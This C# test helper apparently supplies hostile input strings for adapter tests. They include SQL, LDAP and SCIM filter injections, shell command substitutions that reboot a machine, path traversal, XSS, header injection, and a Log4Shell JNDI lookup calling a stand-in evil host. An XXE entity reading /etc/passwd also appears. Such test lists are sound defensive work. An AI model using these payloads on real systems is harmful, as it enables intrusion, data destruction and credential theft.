namespace JitGateway.JourneyTests.Adapters;

/// <summary>Values that mean something to a database, a filter, a URL, JSON or a shell, and must mean nothing here.</summary>
internal static class HostileValues
{
    public static readonly IReadOnlyList<string> All =
    [
        "O'Hara", "O''Hara", "\"quoted\"", "ends with a backslash\\", "\\", "\\\"", "\\\\\" or userName pr or userName eq \\\\\"", "'", "''", "\"", "`", "$$", "$1", "%", "_", "*", "%27", "%00", "{}", "{username}", "[0]",
        "' or '1'='1", "' or 1=1 --", "'; drop table users; --", "'); delete from users where ('1'='1", "x'; update users set email='taken' where 'a'='a", "$tag$; drop table users; $tag$", "E'\\'; drop table users; --", "1; select pg_sleep(10)", "@value", "@id", ":id", "?", "?1",
        "x\" or userName pr", "x\" or userName pr or userName eq \"", "x\\\" or userName pr or userName eq \\\"", "ada\" or \"a\" eq \"a", "userName eq \"ada\"", "emails[value eq \"ada@example.com\"]", "x\" and not (userName eq \"ada", "\\u0022 or userName pr", "&filter=userName pr", "#fragment", "?startIndex=1&count=1000",
        "../../ServiceProviderConfig", "..", "%2e%2e%2fUsers", "a/b", "a?b", "a#b", "a b", "a+b", "a;b", "http://evil.example/", "true", "null", "0", "2026-01-01T00:00:00Z",
        "Zoë Müller-Łukasz", "李小龍", "Ο Σωκράτης", "محمد", "👩‍💻", "e\u0301 and é", "\u202eright to left", "zero\u200bwidth", "I İ ı i", "ß ẞ SS", "\ufeffmark", "line\nbreak", "tab\tand\rreturn", "<script>alert(1)</script>", "&amp;", "$(reboot)", "`reboot`", "| reboot", "\u2028\u2029",
        "*)(uid=*", "x)(|(uid=*))", "(&(objectClass=*))", "\\28\\29", "\\2a", "\\c3\\a9", "uid=bob,ou=people", "cn=x+uid=bob", "#04024869", " leads and trails ", "a,b=c;d<e>f\"g", "dn:caseIgnoreMatch:=x",
        "\r\nX-Injected: yes", "{\"$ne\": null}", "\"}, \"admin\": true, {\"a\": \"", "{{constructor.constructor('x')()}}", "${jndi:ldap://evil.example/x}", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    ];

    public static TheoryData<int> Numbers => [.. Enumerable.Range(0, All.Count)];
}
